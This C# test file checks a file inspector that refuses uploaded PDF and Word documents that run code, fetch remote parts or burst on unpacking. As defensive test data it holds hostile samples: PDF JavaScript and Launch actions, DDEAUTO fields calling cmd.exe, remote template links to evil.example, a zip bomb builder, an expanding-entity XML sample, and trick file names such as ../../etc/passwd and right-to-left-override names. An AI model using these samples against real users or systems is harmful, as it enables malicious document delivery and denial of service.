using System.IO.Compression;
using System.Text;
using Zhicheng.Core.Files;

namespace Zhicheng.Core.Tests.Files;

/// <summary>Documents that do something when they are opened, and packages that burst.</summary>
public class ActiveFileTests
{
    static readonly FileRule Word = FileRule.Word(20);

    const string Main =
        "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{0}</w:body></w:document>";

    static FileFault? FaultOf(byte[] content, FileRule rule) =>
        (FileInspector.Inspect(content, rule) as FileRefusal)?.Fault;

    [Theory]
    [InlineData("<</S /JavaScript /JS (app.alert(1))>>", FileFault.ActiveContent)]
    [InlineData("<</OpenAction <</S /Java#53cript /JS (x)>> >>", FileFault.ActiveContent)]
    [InlineData("<</S /Launch /F (cmd.exe)>>", FileFault.ActiveContent)]
    [InlineData("<</S /SubmitForm /F (http://x)>>", FileFault.ActiveContent)]
    [InlineData("<</Names <</EmbeddedFiles 7 0 R>> >>", FileFault.EmbeddedFile)]
    [InlineData("<</Type /EmbeddedFile /Length 3>>", FileFault.EmbeddedFile)]
    [InlineData("<</OpenAction [3 0 R /Fit]>>", null)]
    [InlineData("<</EmbeddedFilesRemoved true>>", null)]
    public void A_pdf_that_acts_or_carries_others_is_refused_in_plain_sight_and_packed(
        string dictionary,
        FileFault? fault
    )
    {
        FaultOf(Samples.Pdf($"4 0 obj\n{dictionary}\nendobj\n"), FileRule.Evidence).ShouldBe(fault);
        FaultOf(Samples.Pdf(Samples.ObjectStream($"4 0 {dictionary}")), FileRule.Evidence).ShouldBe(fault);
    }

    [Theory]
    [InlineData("attachedTemplate", "https://evil.example/t.dotm", FileFault.Fetches)]
    [InlineData("attachedTemplate", "\\\\server\\share\\t.dotm", FileFault.Fetches)]
    [InlineData("attachedTemplate", "file://server/share/t.dotm", FileFault.Fetches)]
    [InlineData("image", "http://evil.example/pixel.png", FileFault.Fetches)]
    [InlineData("oleObject", "mhtml:http://evil.example/x", FileFault.Fetches)]
    [InlineData("attachedTemplate", "file:///C:\\Users\\wang\\Templates\\Normal.dotm", null)]
    [InlineData("hyperlink", "https://www.example.com/", null)]
    public void A_docx_that_fetches_a_part_of_itself_is_refused(string type, string target, FileFault? fault)
    {
        var relations =
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"a\" "
            + $"Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>";
        FaultOf(
                Docx(("word/document.xml", string.Format(null, Main, "")), ("word/_rels/settings.xml.rels", relations)),
                Word
            )
            .ShouldBe(fault);
    }

    [Theory]
    [InlineData("<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:r></w:p>", FileFault.Fetches)]
    [InlineData(
        "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E excel x y</w:instrText></w:r></w:p>",
        FileFault.Fetches
    )]
    [InlineData("<w:fldSimple w:instr=\" dde excel x\"/>", FileFault.Fetches)]
    [InlineData("<w:p><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:t>DDE</w:t></w:r></w:p>", null)]
    public void A_docx_with_a_field_that_asks_another_program_is_refused(string body, FileFault? fault) =>
        FaultOf(Docx(("word/document.xml", string.Format(null, Main, body))), Word).ShouldBe(fault);

    [Theory]
    [InlineData("word/vbaProject.bin", FileFault.ActiveContent)]
    [InlineData("word/VbaProjectSignature.bin", FileFault.ActiveContent)]
    [InlineData("word/embeddings/oleObject1.bin", FileFault.EmbeddedFile)]
    [InlineData("word/embeddings/Sheet.xlsm", FileFault.EmbeddedFile)]
    [InlineData("word/activeX/activeX1.xml", FileFault.EmbeddedFile)]
    [InlineData("word/embeddings/Sheet1.xlsx", null)]
    [InlineData("word/media/image1.png", null)]
    public void A_docx_with_a_program_packed_into_it_is_refused(string part, FileFault? fault) =>
        FaultOf(Docx(("word/document.xml", "<x/>"), (part, "<x/>")), Word).ShouldBe(fault);

    [Fact]
    public void A_docx_of_the_kind_that_has_macros_is_refused_whatever_its_parts_are_called() =>
        FaultOf(
                Docx(
                    (
                        "[Content_Types].xml",
                        "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"
                    ),
                    ("word/document.xml", "<x/>")
                ),
                Word
            )
            .ShouldBe(FileFault.ActiveContent);

    [Fact]
    public void A_package_that_bursts_is_refused_without_unpacking_it_all()
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create))
        {
            using (var main = new StreamWriter(zip.CreateEntry("word/document.xml").Open()))
                main.Write("<x/>");
            using var bomb = zip.CreateEntry("word/media/image1.png", CompressionLevel.SmallestSize).Open();
            var nothing = new byte[1024 * 1024];
            for (var megabyte = 0; megabyte < 300; megabyte++)
                bomb.Write(nothing);
        }

        memory.ToArray().Length.ShouldBeLessThan(1024 * 1024);
        FaultOf(memory.ToArray(), Word).ShouldBe(FileFault.Bomb);
    }

    [Fact]
    public void Entities_that_multiply_are_not_expanded() =>
        FaultOf(
                Docx(("word/document.xml", "<!DOCTYPE x [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>")),
                Word
            )
            .ShouldBe(FileFault.Damaged);

    [Theory]
    [InlineData("Ole10Native", FileFault.EmbeddedFile)]
    [InlineData("\u0013 DDEAUTO c:", FileFault.Fetches)]
    [InlineData("CompObj", null)]
    public void An_old_document_is_looked_through_too(string more, FileFault? fault) =>
        FaultOf(Samples.OldOffice("Root Entry", "WordDocument", more), Word).ShouldBe(fault);

    [Fact]
    public void Each_refusal_says_what_to_do()
    {
        FileFault[] faults = [FileFault.EmbeddedFile, FileFault.Fetches, FileFault.Bomb, FileFault.ActiveContent];
        foreach (var fault in faults)
        {
            foreach (var type in (FileType[])[FileType.Pdf, FileType.Word])
                FileRefusalText.Say(new(fault, type, 1, Word), "材料.docx").ShouldContain("上传。");
        }
    }

    [Theory]
    [InlineData("证书.pdf", FileType.Pdf, "证书.pdf")]
    [InlineData("证书.PDF", FileType.Pdf, "证书.PDF")]
    [InlineData("证书.pdf.exe", FileType.Pdf, "证书.pdf")]
    [InlineData("证书.exe", FileType.Pdf, "证书.exe.pdf")]
    [InlineData("证书", FileType.Jpeg, "证书.jpg")]
    [InlineData("证\u202Efdp.exe", FileType.Pdf, "证fdp.exe.pdf")]
    [InlineData("../../etc/passwd", FileType.Pdf, "passwd.pdf")]
    [InlineData("a\\b\\..pdf", FileType.Pdf, "_..pdf")]
    [InlineData("CON.pdf", FileType.Pdf, "_CON.pdf")]
    [InlineData("a:b|c?.png", FileType.Png, "a_b_c_.png")]
    [InlineData("表.doc", FileType.Word, "表.doc.docx")]
    [InlineData("图.jpeg", FileType.Jpeg, "图.jpeg")]
    [InlineData("图.jpg. .", FileType.Jpeg, "图.jpg")]
    public void A_name_is_kept_without_tricks_and_ends_as_its_content_demands(
        string name,
        FileType type,
        string kept
    ) => FileNames.Kept(name, type).ShouldBe(kept);

    static byte[] Docx(params (string Name, string Text)[] parts)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create))
        {
            foreach (var (name, text) in parts)
            {
                using var part = zip.CreateEntry(name).Open();
                part.Write(Encoding.UTF8.GetBytes(text));
            }
        }

        return memory.ToArray();
    }
}
